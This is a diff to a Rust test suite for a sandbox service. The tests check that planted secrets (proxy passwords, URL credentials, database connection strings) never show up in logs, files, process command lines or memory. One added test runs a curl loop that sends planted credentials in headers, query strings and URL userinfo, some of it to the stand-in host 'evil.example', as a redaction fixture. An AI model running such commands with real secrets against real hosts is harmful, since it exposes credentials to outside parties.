@@ -1,8 +1,8 @@
 //! Planted secrets are searched for in every place where a secret leaks.
 
-use std::{collections::BTreeMap, fs, path::Path, time::Duration};
+use std::{collections::BTreeMap, fs, path::Path, sync::atomic::Ordering, time::Duration};
 
-use sandbar_host_tests::{Planted, Project, Reply, Server, command_line};
+use sandbar_host_tests::{Planted, Project, Reply, Server, Service, command_line};
 use serde_json::{Value, json};
 
 /// The process that has its secret says so by the length of it.
@@ -134,6 +134,9 @@ fn sec1_case_72_what_is_planted_is_in_none_of_the_places_where_secrets_leak() {
     let Secrets { closed, to_app, others } = plant(&server, &name);
     drop(server.app_when(&name, "ready", Duration::from_secs(30)));
     server.sh(&name, "echo worked > made; env > variables");
+    // A snapshot is below the data directory, which is searched.
+    let checkpoints = format!("/v1/sandboxes/{name}/checkpoints");
+    drop(server.api("POST", &checkpoints, Some(&json!({ "label": "before" }))).expect(201));
     let everything: Vec<&Planted> = [&closed, &to_app].into_iter().chain(&others).collect();
 
     for (what, reply) in mistakes(&server, &name, &closed) {
@@ -188,4 +191,75 @@ fn sec1_case_72_what_is_planted_is_in_none_of_the_places_where_secrets_leak() {
         ),
     );
     assert_eq!(inside, "");
+}
+
+#[test]
+fn case_72_what_stands_in_an_address_is_not_written_down() {
+    let Some(service) = Service::start() else { return };
+    let (mut server, name, _project) = service.sandbox();
+    server.kill();
+    let of_proxy = planted("proxy");
+    let proxy = format!("http://me:{}@127.0.0.1:1", of_proxy.0);
+    // The operator's own proxy, with a password; the service is reached without it.
+    for variable in ["HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"] {
+        server.set_env(variable, &proxy);
+    }
+    for variable in ["NO_PROXY", "no_proxy"] {
+        server.set_env(variable, &service.name);
+    }
+    server.set_env("SANDBAR_LOG", "trace");
+    server.restart();
+    let of_program: Vec<Planted> = ["user", "query", "header", "name"].map(planted).into();
+    // Not whole in an argument: those of an exec are kept.
+    let asked = service.asked.load(Ordering::SeqCst);
+    let at = format!("{}:{}", service.name, service.port);
+    for (host, way) in [
+        (at.as_str(), ""),
+        (at.as_str(), "--proxytunnel"),
+        (at.as_str(), "--noproxy '*' --proxy socks5h://127.0.0.1:1080"),
+        ("evil.example", ""),
+        ("evil.example", "--proxytunnel"),
+        ("registry.npmjs.org", ""),
+    ] {
+        let said = server.sh(
+            &name,
+            &format!(
+                "p=plan; c=c41f0e77a9; for u in \"u:${{p}}ted-user-$c@\" ''; do \
+                 curl -sS -m 20 -w '%{{http_code}} ' -o /dev/null {way} --proxy-header \"X-P: ${{p}}ted-header-$c\" \
+                   -H \"Authorization: Bearer ${{p}}ted-header-$c\" \
+                   \"http://${{u}}{host}/${{p}}ted-query-$c?k=${{p}}ted-query-$c\" 2>&1; done; true"
+            ),
+        );
+        assert!(!said.contains("400") && !said.contains("(3)"), "{host} {way}: {said}");
+    }
+    assert!(service.asked.load(Ordering::SeqCst) >= asked + 3);
+    let log = server.api("GET", &format!("/v1/sandboxes/{name}/network/log?limit=200"), None);
+    let items = log.expect(200)["items"].as_array().map_or(0, Vec::len);
+    assert!(items >= 5, "{log:?}");
+    let readable = everything_readable(&server, &name);
+    for secret in of_program.iter().chain([&of_proxy]) {
+        assert_eq!(secret.in_files(server.data_dir()), Vec::<String>::new(), "{secret:?}");
+        for (what, reply) in &readable {
+            assert!(!shows(reply, &[secret]), "{what}: {reply:?}");
+        }
+        assert_eq!(secret.in_processes("cmdline"), Vec::<String>::new(), "{secret:?}");
+    }
+    // Inside nobody learns of the proxy of the network, nor its password.
+    let sandboxes = processes(&server);
+    for (pid, line) in &sandboxes {
+        assert_ne!(of_proxy.is_in_memory(*pid), Some(true), "{line}");
+    }
+    // A setting that is wrong is named, and what it says is not repeated where a password may be in it.
+    server.kill();
+    let of_store = planted("store");
+    for wrong in [
+        format!("postgres://me:{}@[", of_store.0),
+        format!("mysql://me:{}@host/x", of_store.0),
+        format!("postgres://me:{}@db.example/x?sslmode=require", of_store.0),
+    ] {
+        let mut serve = server.cli(Path::new("/"), &["serve"]);
+        let said = serve.env("SANDBAR_STORE", &wrong).output().expect("the binary is built");
+        assert_eq!(said.status.code(), Some(2), "{said:?}");
+        assert!(!of_store.is_in(&said.stderr) && !of_store.is_in(&said.stdout), "{said:?}");
+    }
 }
